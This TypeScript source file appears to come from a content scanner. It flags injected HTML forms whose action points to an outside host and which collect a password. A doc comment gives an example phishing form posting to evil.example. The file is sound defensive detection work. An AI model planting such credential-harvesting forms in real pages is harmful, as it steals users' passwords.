// A form that a value brings along: no script at all, and what is typed into it goes to a stranger. Its tags are read as
// browsers read them: any white space or a slash parts attributes.

import { work } from '../../work.ts'
import { hostAt } from './addresses.ts'
import { readAttribute, readTag } from './tag.ts'
import type { Attribute, Tag } from './tag.ts'

const BODY_MAX = 600
/** What reading a tag takes, and each of its attributes. */
const TAG_WORK = 200
const ATTRIBUTE_WORK = 100

/** `<form action=https://evil.example><input type=password>` */
export const asksFor = (text: string, open: number, end: number): boolean => {
  readValues(text.slice(open, Math.min(end, open + BODY_MAX)), 0)
  if (hostAt((values.get('action') ?? '').trim(), 0) < 0) return false
  return hasPassword(text.slice(end, end + BODY_MAX))
}

/** In the form, or behind it with its name: `<input form=f type=password>`. */
const hasPassword = (body: string): boolean => {
  let closed = false
  for (let open = body.indexOf('<'); open >= 0 && work.left >= 0;) {
    const read = readValues(body, open)
    if (read && tag.name === 'form' && tag.closing) closed = true
    if (read && tag.name === 'input' && isPassword() && (!closed || values.has('form'))) return true
    open = body.indexOf('<', read ? tag.end : open + 1)
  }
  return false
}

const isPassword = (): boolean => values.get('type')?.trim().toLowerCase() === 'password'

const tag: Tag = { name: '', attributes: 0, end: 0, closing: false }
const attribute: Attribute = { name: '', start: 0, stop: 0, next: 0, at: 0, assigned: false }
/** The attributes of the last tag that was read; of two of one name the first counts. */
const values = new Map<string, string>()

const readValues = (text: string, open: number): boolean => {
  work.left -= TAG_WORK
  values.clear()
  if (!readTag(text, open, tag)) return false
  for (let at = tag.attributes; readAttribute(text, at, tag, attribute); at = attribute.next) {
    work.left -= ATTRIBUTE_WORK
    if (!values.has(attribute.name)) values.set(attribute.name, text.slice(attribute.start, attribute.stop))
  }
  return true
}
